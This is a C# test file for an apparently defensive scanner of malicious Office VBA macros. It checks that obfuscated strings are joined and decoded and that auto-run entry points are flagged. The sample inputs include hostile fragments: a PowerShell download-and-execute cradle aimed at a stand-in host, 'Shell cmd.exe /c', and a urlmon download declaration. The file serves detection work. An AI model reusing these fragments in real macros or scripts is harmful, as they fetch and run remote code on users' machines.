using System.Text;
using CsCheck;
using Lurewatch.Scripts.Vba;
using Shouldly;
using Xunit;

namespace Lurewatch.Tests.Scripts;

public sealed class VbaScannerTests
{
    private static readonly string[] Parts =
    [
        "Sub ", "End Sub", "\r\n", "\"", "&", "+", "(", ")", ",", "Chr", "x", "=", ".", "If ", " Then ", "_", " _\r\n", "'", ":", "&H41", "12", "Const ", "Replace", "[", "Declare ", "!", "For ",
    ];

    private static VbaFacts Scan(string source) => VbaScanner.Scan(source, new AnalysisBudget(new AnalysisLimits(), TimeProvider.System)).Facts;

    [Theory]
    [InlineData("x = \"ht\" & \"tp:\" + \"//a.example\"")]
    [InlineData("x = \"ht\" & _\r\n    \"tp:\" _\r\n & \"//a.example\"")]
    [InlineData("x = Chr(104) & Chr$(116) & ChrW(&H74) & \"p\" & VBA.Chr(50 + 8) & \"//a.example\"")]
    [InlineData("x = StrReverse(\"elpmaxe.a//:ptth\")")]
    [InlineData("x = Replace(\"hqqp://a.example\", \"q\", \"t\")")]
    [InlineData("x = \"ht\"\r\nx = x & \"tp://\"\r\nx = x & \"a.exam\" & \"ple\"")]
    [InlineData("Const a = \"http\"\r\nShell a & \"://a.example\"")]
    [InlineData("Shell Mid(\"zzhttp://a.examplezz\", 3, 16), 0")]
    [InlineData("If 1 = 1 Then y = \"http://\" & \"a.example\" Else z = 2")]
    [InlineData("Set o = CreateObject(\"x\"): o.Open \"GET\", \"http\" & \"://a.example\", False")]
    [InlineData("x = Join(Array(\"http:\", \"\", \"a.example\"), \"/\")")]
    [InlineData("x = Chr(72 Xor 32) & \"ttp://a.example\"")]
    [InlineData("Dim s As String\r\ns = s & \"http\"\r\ns = s & \"://a.example\"")]
    public void What_is_plainly_joined_is_joined(string body)
    {
        var facts = Scan($"Attribute VB_Name = \"M\"\r\nSub A()\r\n{body}\r\nEnd Sub\r\n");
        facts.JoinedStrings.ShouldContain(text => text.Contains("http://a.example", StringComparison.Ordinal), customMessage: string.Join(" | ", facts.JoinedStrings));
    }

    [Fact]
    public void A_function_that_only_makes_a_string_is_known_where_it_is_called()
    {
        var facts = Scan("Sub AutoOpen()\r\n Shell Part() & \"://a.example\"\r\nEnd Sub\r\nFunction Part()\r\n Part = \"ht\" & \"tp\"\r\nEnd Function\r\n");
        facts.JoinedStrings.ShouldContain("http://a.example");
    }

    [Fact]
    public void An_unknown_part_breaks_the_join_and_both_sides_come_out()
    {
        var facts = Scan("Sub A()\r\nShell \"cmd.exe\" & \" /c \" & Unknown1(3) & \"calc\" & \"ulator\"\r\nEnd Sub");
        facts.JoinedStrings.ShouldContain("cmd.exe /c ");
        facts.JoinedStrings.ShouldContain("calculator");
    }

    [Theory]
    [InlineData("aHR0cDovL2EuZXhhbXBsZS9wYXlsb2Fk", "base64", "http://a.example/payload")]
    [InlineData("687474703a2f2f612e6578616d706c652f7061796c6f6164", "hex", "http://a.example/payload")]
    [InlineData("daolyap/elpmaxe.a//:ptth", "reversed", "http://a.example/payload")]
    public void Encoded_strings_are_decoded(string encoded, string how, string decoded) =>
        Scan($"Sub A()\r\nx = \"{encoded}\"\r\nEnd Sub").DecodedStrings.ShouldContain(new DecodedString(decoded, how));

    [Fact]
    public void Encoded_PowerShell_is_decoded_from_the_joined_command_line()
    {
        var command = Convert.ToBase64String(Encoding.Unicode.GetBytes("IEX (New-Object Net.WebClient).DownloadString('http://a.example/x')"));
        var facts = Scan($"Sub AutoOpen()\r\nShell \"powersh\" & \"ell -e {command[..30]}\" & \"{command[30..]}\", 0\r\nEnd Sub");
        facts.DecodedStrings.Single().Text.ShouldStartWith("IEX (New-Object");
        facts.Calls.Select(call => call.Name).ShouldContain("Net.WebClient");
    }

    [Fact]
    public void A_program_in_a_string_becomes_a_file()
    {
        var program = new byte[100];
        "MZ"u8.CopyTo(program);
        VbaScanner.Scan($"Sub A()\r\nx = \"{Convert.ToBase64String(program)}\"\r\nEnd Sub", new AnalysisBudget(new AnalysisLimits(), TimeProvider.System))
            .Programs.Single().ShouldBe(program);
    }

    [Theory]
    [InlineData("Sub AutoOpen()", "open")]
    [InlineData("Private Sub Document_Open()", "open")]
    [InlineData("public function auto_open() As Boolean", "open")]
    [InlineData("Sub Workbook_BeforeClose(Cancel As Boolean)", "close")]
    [InlineData("Private Sub InkEdit1_GotFocus()", "action")]
    [InlineData("Private Sub Frame1_Layout()", "open")]
    public void What_Office_starts_is_known(string head, string when) => Scan($"{head}\r\nEnd Sub\r\n").AutoRun.Single().When.ShouldBe(when);

    [Theory]
    [InlineData("' Sub AutoOpen()\r\nSub Other()\r\nEnd Sub")]
    [InlineData("Sub Other()\r\nMsgBox \"Sub AutoOpen()\"\r\nEnd Sub")]
    [InlineData("Rem Shell \"cmd.exe\" _\r\n Sub AutoOpen()\r\nSub Other()\r\nEnd Sub")]
    [InlineData("Sub Other()\r\nAutoOpen\r\nEnd Sub")]
    public void Comments_strings_and_calls_start_nothing(string source)
    {
        var facts = Scan(source);
        facts.AutoRun.ShouldBeEmpty();
        facts.Calls.ShouldBeEmpty();
    }

    [Fact]
    public void A_declared_function_is_known_by_its_alias() =>
        Scan("Private Declare PtrSafe Function q Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\r\n").Calls.Single().Effect.ShouldBe("download");

    [Fact]
    public void A_sentence_in_quotes_is_neither_base64_nor_a_call() =>
        Scan("Sub A()\r\nMsgBox \"Application.Workbooks could not be opened\"\r\nRange(\"A1\").Value = \"TotalAmountOfInvoices\"\r\nEnd Sub").ShouldSatisfyAllConditions(
            facts => facts.DecodedStrings.ShouldBeEmpty(), facts => facts.Calls.ShouldBeEmpty());

    [Fact]
    public void Long_appending_takes_linear_time()
    {
        var source = new StringBuilder("Sub A()\r\nDim x\r\n");
        for (var i = 0; i < 50_000; i++) source.Append("x = x & \"abcdefghij\"\r\n");
        Scan(source.Append("End Sub").ToString()).Measures.LongestString.ShouldBe(500_000);
    }

    [Fact]
    public void Doubling_and_nesting_stay_within_the_budget()
    {
        var doubling = "Sub A()\r\nx = \"abcdefgh\"\r\n" + string.Concat(Enumerable.Repeat("x = x & x\r\n", 200)) + "End Sub";
        Scan(doubling).Measures.LongestString.ShouldBeLessThanOrEqualTo(1 << 20);
        Scan("x = " + new string('(', 100_000) + "\"a\"" + new string(')', 100_000)).ShouldNotBeNull();
        Scan("x = " + string.Concat(Enumerable.Repeat("-", 100_000)) + "1").ShouldNotBeNull();
        Scan("x = " + string.Concat(Enumerable.Repeat("Chr(", 100_000))).ShouldNotBeNull();
        Scan("x = " + string.Concat(Enumerable.Repeat("Not ", 100_000))).ShouldNotBeNull();
    }

    [Fact]
    public void Any_text_is_read_to_its_end() =>
        Gen.Int[0, Parts.Length - 1].Select(i => Parts[i])
            .Array[0, 60].Sample(parts => Scan(string.Concat(parts)).Measures.Chars.ShouldBe(parts.Sum(part => part.Length)), iter: 3000);
}
